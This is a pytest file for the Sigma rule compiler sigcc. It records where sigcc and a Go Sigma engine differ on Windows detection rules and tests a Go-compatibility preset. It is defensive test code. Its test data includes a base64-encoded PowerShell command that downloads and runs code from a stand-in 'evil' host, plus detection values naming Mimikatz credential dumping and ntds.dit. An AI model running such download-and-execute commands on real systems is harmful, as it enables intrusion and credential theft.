"""Where sigcc and the Go engine (github.com/markuskont/go-sigma-rule-engine) differ: one vector
per difference found on SigmaHQ's Windows rules (docs/migrating-from-go.md, issue 9 item 6).

Each row is a rule's detection, an event, what sigcc does by default, what the Go engine does
as measured (the driver the doc describes, run on this very rule and event), and whether
Go's behaviour is deliberate. A deliberate one is reproduced by `--compat go`
(sigcc.compat.compat_options("go")): the preset must give Go's result. A Go bug is not
copied: the preset must still give sigcc's result. Then each class is tested as a whole with
hypothesis against a model of the rule: the deliberate behaviours as Go defines them, the
others as the Sigma spec (../shared/docs/SIGMA_SEMANTICS.md) does.
"""
from __future__ import annotations

import base64
import json
import re
from dataclasses import dataclass

import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import sigcc
from sigcc.cli import main
from sigcc.compat import PRESETS, compat_options
from tests.conftest import SIGMA, needs_shared, rule_yaml

GO = compat_options("go")
DEFAULT = sigcc.Options()
SETTINGS = dict(deadline=None, suppress_health_check=[HealthCheck.too_slow])
# every vector's event is a Sysmon process creation, so sigcc's logsource gating lets the
# process_creation test rule apply (the Go engine ignores logsources)
SYSMON_1 = {"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1}
MATCH, NO_MATCH = "match", "no match"
B64 = base64.b64encode(b"IEX (New-Object Net.WebClient).DownloadString('http://evil/x')").decode()


@dataclass(frozen=True)
class Difference:
    name: str
    detection: str  # the detection block, indented by 4
    event: dict
    sigcc: bool  # sigcc's default result
    go: str  # the Go engine's result as measured: "match", "no match", or why it fails to load
    deliberate: bool = False  # a documented Go choice, reproduced by --compat go
    extra: str = ""  # more top-level rule text


def _sel(body: str, condition: str = "sel") -> str:
    return f"    sel:\n{body}    condition: {condition}\n"


LOAD_FAILURES = [  # valid rules the Go engine cannot load (sigcc compiles and matches them)
    Difference("field: null", _sel("        Image|endswith: '\\x.exe'\n        OriginalFileName: null\n"),
               {"Image": "C:\\x.exe"}, True, "load fails: unable to reflect on pattern kind"),
    Difference("windash", _sel("        CommandLine|windash|contains: ' -enc '\n"),
               {"CommandLine": "powershell /enc AAAA"}, True,
               "load fails: selection key CommandLine|windash|contains specifier windash invalid"),
    Difference("cidr", _sel("        DestinationIp|cidr: '10.0.0.0/8'\n"), {"DestinationIp": "10.1.2.3"},
               True, "load fails: selection key DestinationIp|cidr specifier cidr invalid"),
    Difference("base64offset", _sel("        CommandLine|base64offset|contains: 'http://'\n"),
               {"CommandLine": "powershell -enc " + B64}, True,
               "load fails: selection key CommandLine|base64offset|contains specifier base64offset invalid"),
    Difference("fieldref", _sel("        ParentImage|fieldref: Image\n"),
               {"Image": "C:\\a.exe", "ParentImage": "C:\\a.exe"}, True,
               "load fails: selection key ParentImage|fieldref specifier fieldref invalid"),
    Difference("re|i", _sel("        CommandLine|re|i: 'invoke-mimikatz'\n"),
               {"CommandLine": "Invoke-Mimikatz -DumpCreds"}, True,
               "load fails: selection key CommandLine|re|i specifier i invalid"),
    Difference("|all keyword map",
               "    keywords:\n        '|all':\n            - 'New-MailboxExportRequest'\n"
               "            - '.aspx'\n    condition: keywords\n",
               {"Payload": "New-MailboxExportRequest -FilePath \\\\x\\c$\\a.aspx"}, True,
               "load fails: unknown rule kind, should be keyword or selection"),
    Difference("boolean rule value", _sel("        Image|endswith: '\\x.exe'\n        Initiated: true\n"),
               {"Image": "C:\\x.exe", "Initiated": True}, True,
               "load fails: SELECTION got bool. unsupported selection value"),
    Difference("list of numbers and strings",
               _sel("        Details|contains:\n            - 00000429\n            - 'd0000429'\n"),
               {"Details": "d0000429"}, True, "load fails: KEYWORD got array. mixed type slice"),
    Difference("keyword list under 1 of x*",
               "    selection_state:\n        State: Stopped\n    selection_text:\n"
               "        - 'Sysmon config state changed'\n    condition: 1 of selection_*\n",
               {"State": "Stopped"}, True,
               "load fails: SELECTION got string. unsupported selection root container"),
    Difference("--- inside a string", _sel("        Image|endswith: '\\x.exe'\n"), {"Image": "C:\\x.exe"},
               True, "load fails: multipart (not supported)",
               extra="references:\n    - https://github.com/redcanaryco/atomic-red-team/blob/master/"
                     "atomics/T1003/T1003.md#atomic-test-1---x\n"),
]

MATCH_DIFFERENCES = [
    # deliberate Go behaviours: --compat go reproduces them
    Difference("/.../ value is a regex", _sel("        ParentCommandLine: '/../../'\n"),
               {"ParentCommandLine": "C:\\Windows\\system32\\cmd.exe /c whoami"}, False, MATCH,
               deliberate=True),
    Difference("whitespace collapsing", _sel("        CommandLine|contains: 'net  user'\n"),
               {"CommandLine": "cmd /c net user admin"}, False, MATCH, deliberate=True),
    Difference("logsource ignored", _sel("        Image|endswith: '\\x.exe'\n"),
               {"EventID": 3, "Image": "C:\\x.exe"}, False, MATCH, deliberate=True),  # a network event
    # Go bugs: not copied
    Difference("case-sensitive values", _sel("        Image|endswith: '\\cmd.exe'\n"),
               {"Image": "C:\\Windows\\System32\\CMD.EXE"}, True, NO_MATCH),
    Difference("missing field makes not filter false",
               "    sel:\n        Image|endswith: '\\x.exe'\n    filter:\n"
               "        ParentImage|endswith: '\\y.exe'\n    condition: sel and not filter\n",
               {"Image": "C:\\x.exe"}, True, NO_MATCH),
    Difference("result depends on Go's map order",
               "    sel:\n        ImageLoaded|endswith: '\\jli.dll'\n    filter:\n"
               "        ImageLoaded|startswith: 'C:\\Program Files\\'\n"
               "        Description: 'OpenJDK Platform binary'\n    condition: sel and not filter\n",
               {"ImageLoaded": "D:\\tools\\jli.dll"}, True, "varies: match in 15 of 20 runs"),
    Difference("\\? kept literally", _sel("        Description: '\\?'\n"), {"Description": "?"}, True,
               NO_MATCH),
    Difference("? is no wildcard without *", _sel("        Image: 'C:\\a?.exe'\n"), {"Image": "C:\\ab.exe"},
               True, NO_MATCH),
    Difference("\\\\ kept doubled without *", _sel("        Image: 'C:\\\\Windows\\\\x.exe'\n"),
               {"Image": "C:\\Windows\\x.exe"}, True, NO_MATCH),
    Difference("boolean never matches 'true'", _sel("        Initiated: 'true'\n"), {"Initiated": True},
               True, NO_MATCH),
    Difference("list-valued field never matches", _sel("        Data|contains: 'ntds.dit'\n"),
               {"Data": ["x", "C:\\ntds.dit"]}, True, NO_MATCH),
    Difference("number matches a null field", _sel("        DestinationPort: 88\n"),
               {"DestinationPort": None}, False, MATCH),
]

ROWS = LOAD_FAILURES + MATCH_DIFFERENCES


def q(text: str) -> str:
    """`text` as a YAML double-quoted scalar (JSON's escapes are YAML's)."""
    return json.dumps(text)


def _rule(row: Difference) -> str:
    return row.extra + rule_yaml(row.detection.rstrip("\n"))


def _matches(text: str, options: sigcc.Options, event: dict) -> bool:
    rs = sigcc.compile([text], options)
    errors = [d.render() for d in rs.diagnostics if d.severity == "error"]
    assert not errors, errors
    return bool(rs.match(event))


@pytest.mark.parametrize("row", ROWS, ids=lambda r: r.name)
def test_sigcc_default(row):
    assert _matches(_rule(row), DEFAULT, {**SYSMON_1, **row.event}) is row.sigcc


@pytest.mark.parametrize("row", ROWS, ids=lambda r: r.name)
def test_compat_go_gives_go_result_for_deliberate_behaviour_only(row):
    got = _matches(_rule(row), GO, {**SYSMON_1, **row.event})
    if row.deliberate:
        assert got is (row.go == MATCH) and got is not row.sigcc
    else:  # a Go bug: the preset keeps sigcc's (the spec's) result
        assert got is row.sigcc


def test_every_row_is_a_difference():
    for row in ROWS:
        assert row.go.startswith(("load fails", "varies")) or (row.go == MATCH) is not row.sigcc, row


# --- the preset ------------------------------------------------------------------------------

def test_preset_holds_the_deliberate_behaviours_only():
    assert dict(PRESETS["go"]) == {"collapse_whitespace": True, "slash_regex": True,
                                   "logsource": "ignore"}
    assert compat_options("go", logsource="windows").logsource == "windows"  # explicit wins
    assert DEFAULT.slash_regex is False and DEFAULT.collapse_whitespace is False


@pytest.mark.parametrize("call", [lambda: compat_options("pysigma"),
                                  lambda: compat_options("go", slash_regexes=True)])
def test_unknown_preset_or_option_is_a_clear_error(call):
    with pytest.raises(ValueError, match="unknown"):
        call()


def test_slash_regex_that_does_not_compile_is_a_diagnostic():
    rs = sigcc.compile([rule_yaml("    sel:\n        CommandLine: '/a(b/'\n    condition: sel")], GO)
    (d,) = [d for d in rs.diagnostics if d.severity == "error"]
    assert "slash_regex" in d.message and "'a(b'" in d.message and d.span.line == 10


def test_cli_compat_go(tmp_path, capsys):
    row = MATCH_DIFFERENCES[0]  # /../../
    (tmp_path / "r.yml").write_text(_rule(row), encoding="utf-8")
    (tmp_path / "e.jsonl").write_bytes(orjson.dumps(row.event) + b"\n")  # no Channel at all
    args = ["--rules", str(tmp_path / "r.yml"), "--no-summary", str(tmp_path / "e.jsonl")]
    assert main(["scan", *args]) == 0
    assert capsys.readouterr().out == ""
    assert main(["scan", "--compat", "go", *args]) == 0
    assert orjson.loads(capsys.readouterr().out)["record"] == 1
    # a module built with the preset records it; one built without is refused by scan
    assert main(["build", str(tmp_path / "r.yml"), "-o", str(tmp_path / "m.py"), "-q"]) == 0
    assert main(["scan", "--rules", str(tmp_path / "m.py"), "--compat", "go", "--no-summary",
                 str(tmp_path / "e.jsonl")]) == 1
    assert "is a prebuilt module" in capsys.readouterr().err
    assert main(["build", str(tmp_path / "r.yml"), "-o", str(tmp_path / "go.py"), "-q",
                 "--compat", "go"]) == 0
    assert main(["scan", "--rules", str(tmp_path / "go.py"), "--compat", "go", "--no-summary",
                 str(tmp_path / "e.jsonl")]) == 0
    assert '"record":1' in capsys.readouterr().out


def test_cli_help_documents_compat(capsys):
    for command in ("build", "validate", "scan", "query"):
        with pytest.raises(SystemExit):
            main([command, "--help"])
        out = re.sub(r"-\s+", "-", capsys.readouterr().out)  # argparse wraps after hyphens
        assert "--compat {go}" in out and "docs/migrating-from-go.md" in out, command


@needs_shared
def test_every_sigmahq_windows_rule_compiles_with_the_preset():
    result = sigcc.load_rules([str(SIGMA / "rules" / "windows")], GO)
    assert not result.errors, [d.render() for d in result.errors[:5]]
    assert len(result.rules) > 2000


# --- each class as a whole ----------------------------------------------------------------------
# Deliberate behaviours are checked against Go's definition of them; Go's bugs against the spec.

REGEX_PIECES = st.sampled_from(["a", "b", "c", ".", "a+", "[bc]", "(a|c)", "b{1,2}", "\\.", "[^a]"])
TEXT = st.text(alphabet="abcABC./ ", max_size=12)


@st.composite
def slash_values(draw):
    body = "".join(draw(st.lists(REGEX_PIECES, min_size=1, max_size=4)))
    body = ("^" if draw(st.booleans()) else "") + body + ("$" if draw(st.booleans()) else "")
    return "/" * draw(st.integers(1, 2)) + body + "/" * draw(st.integers(1, 2)), body


@settings(max_examples=120, **SETTINGS)
@given(slash_values(), TEXT, st.booleans())
def test_slash_values_are_regex_searches_with_the_preset_only(value, text, keyword):
    raw, body = value  # Go strips every leading and trailing '/' and searches (RE2, cased)
    detection = (f"    kw:\n        - {q(raw)}\n    condition: kw" if keyword
                 else f"    sel:\n        F: {q(raw)}\n    condition: sel")
    rule = rule_yaml(detection)
    for event_text in (text, raw):
        event = {"F": event_text}
        assert _matches(rule, GO, event) is bool(re.search(body, event_text))
        # without the preset a /.../ value is a wildcard-free string: equality, ignoring case
        plain = raw.lower() in event_text.lower() if keyword else raw.lower() == event_text.lower()
        assert _matches(rule, sigcc.Options(logsource="ignore"), event) is plain


@settings(max_examples=60, **SETTINGS)
@given(st.text(alphabet="ab/", min_size=1, max_size=6), TEXT)
def test_values_with_a_modifier_are_never_slash_regexes(inner, text):
    raw = f"/{inner}/"
    rule = rule_yaml(f"    sel:\n        F|contains: {q(raw)}\n    condition: sel")
    assert _matches(rule, GO, {"F": text}) is (raw.lower() in text.lower())


GO_SPACE = re.compile(r"[\t\n\f\r ]+")  # RE2's \s, which the Go engine collapses
WS_TEXT = st.text(alphabet="ab \t\n\r\f", max_size=10)


@settings(max_examples=120, **SETTINGS)
@given(WS_TEXT.filter(lambda s: s.strip()), WS_TEXT, st.sampled_from(["", "|contains", "|startswith"]))
def test_whitespace_collapses_as_go_collapses_it_with_the_preset_only(pattern, text, mod):
    rule = rule_yaml(f"    sel:\n        F{mod}: {q(pattern)}\n    condition: sel")

    def model(p: str, t: str) -> bool:
        p, t = p.lower(), t.lower()
        return {"": t == p, "|contains": p in t, "|startswith": t.startswith(p)}[mod]

    event = {"F": text}
    assert _matches(rule, GO, event) is model(GO_SPACE.sub(" ", pattern), GO_SPACE.sub(" ", text))
    assert _matches(rule, sigcc.Options(logsource="ignore"), event) is model(pattern, text)


CHANNELS = st.sampled_from(["Microsoft-Windows-Sysmon/Operational", "Security", "System",
                            "Application", "Windows PowerShell"])


@settings(max_examples=60, **SETTINGS)
@given(CHANNELS, st.integers(0, 5000), st.sampled_from(["C:\\x.exe", "C:\\y.exe"]))
def test_preset_applies_every_rule_to_every_event(channel, event_id, image):
    rule = rule_yaml("    sel:\n        Image|endswith: '\\x.exe'\n    condition: sel")
    event = {"Channel": channel, "EventID": event_id, "Image": image}
    assert _matches(rule, GO, event) is image.endswith("\\x.exe")
    process_creation = (channel, event_id) in {("Microsoft-Windows-Sysmon/Operational", 1),
                                               ("Security", 4688)}
    assert _matches(rule, DEFAULT, event) is (image.endswith("\\x.exe") and process_creation)


@settings(max_examples=80, **SETTINGS)
@given(st.text(alphabet="cmdCMD.exEX", min_size=1, max_size=10), st.randoms(use_true_random=False))
def test_values_match_ignoring_case_with_or_without_the_preset(name, rnd):
    value = "\\" + name  # a backslash before a letter is a literal backslash
    flipped = "".join(c.upper() if rnd.random() < 0.5 else c.lower() for c in value)
    rule = rule_yaml(f"    sel:\n        F|endswith: {q(value)}\n    condition: sel")
    for options in (DEFAULT, GO):
        assert _matches(rule, options, {**SYSMON_1, "F": "C:\\" + flipped}) is True


FIELD = st.one_of(st.none(), st.sampled_from(["C:\\x.exe", "C:\\y.exe", "C:\\z.exe"]))


@settings(max_examples=80, **SETTINGS)
@given(FIELD, FIELD, FIELD)
def test_an_absent_field_simply_does_not_match_with_or_without_the_preset(image, parent, grand):
    rule = rule_yaml("    sel:\n        Image|endswith: '\\x.exe'\n    filter_a:\n"
                     "        ParentImage|endswith: '\\y.exe'\n    filter_b:\n"
                     "        ParentImage|endswith: '\\z.exe'\n        GrandparentImage: 'C:\\x.exe'\n"
                     "    condition: sel and not 1 of filter_*")
    event = {k: v for k, v in (("Image", image), ("ParentImage", parent),
                               ("GrandparentImage", grand)) if v is not None}

    def ends(v, s):
        return v is not None and v.endswith(s)

    want = ends(image, "\\x.exe") and not (ends(parent, "\\y.exe")
                                           or (ends(parent, "\\z.exe") and grand == "C:\\x.exe"))
    for options in (DEFAULT, GO):
        assert _matches(rule, options, {**SYSMON_1, **event}) is want


def _spec_regex(value: str) -> str:
    """SIGMA_SEMANTICS.md §2: `*` any run, `?` one character; a backslash escapes `*`, `?`
    and `\\`, and is literal before anything else."""
    out, i = [], 0
    while i < len(value):
        c = value[i]
        if c == "\\" and i + 1 < len(value) and value[i + 1] in "*?\\":
            out.append(re.escape(value[i + 1]))
            i += 2
            continue
        out.append(".*" if c == "*" else "." if c == "?" else re.escape(c))
        i += 1
    return "".join(out)


@settings(max_examples=120, **SETTINGS)
@given(st.text(alphabet="a?*\\", min_size=1, max_size=7), st.text(alphabet="a?*\\", max_size=7))
def test_wildcards_and_escapes_follow_the_spec_with_or_without_the_preset(value, text):
    rule = rule_yaml(f"    sel:\n        F: {q(value)}\n    condition: sel")
    want = re.fullmatch(_spec_regex(value), text, re.S | re.I) is not None
    for options in (DEFAULT, GO):
        assert _matches(rule, options, {**SYSMON_1, "F": text}) is want


SCALAR = st.one_of(st.booleans(), st.sampled_from(["true", "false", "True", "x"]))


@settings(max_examples=80, **SETTINGS)
@given(st.one_of(SCALAR, st.lists(SCALAR, min_size=1, max_size=3)), st.sampled_from(["true", "x"]))
def test_booleans_and_lists_match_by_their_text_with_or_without_the_preset(value, wanted):
    rule = rule_yaml(f"    sel:\n        F: {q(wanted)}\n    condition: sel")

    def text(v):
        return ("true" if v else "false") if isinstance(v, bool) else v.lower()

    want = any(text(v) == wanted for v in (value if isinstance(value, list) else [value]))
    for options in (DEFAULT, GO):
        assert _matches(rule, options, {**SYSMON_1, "F": value}) is want
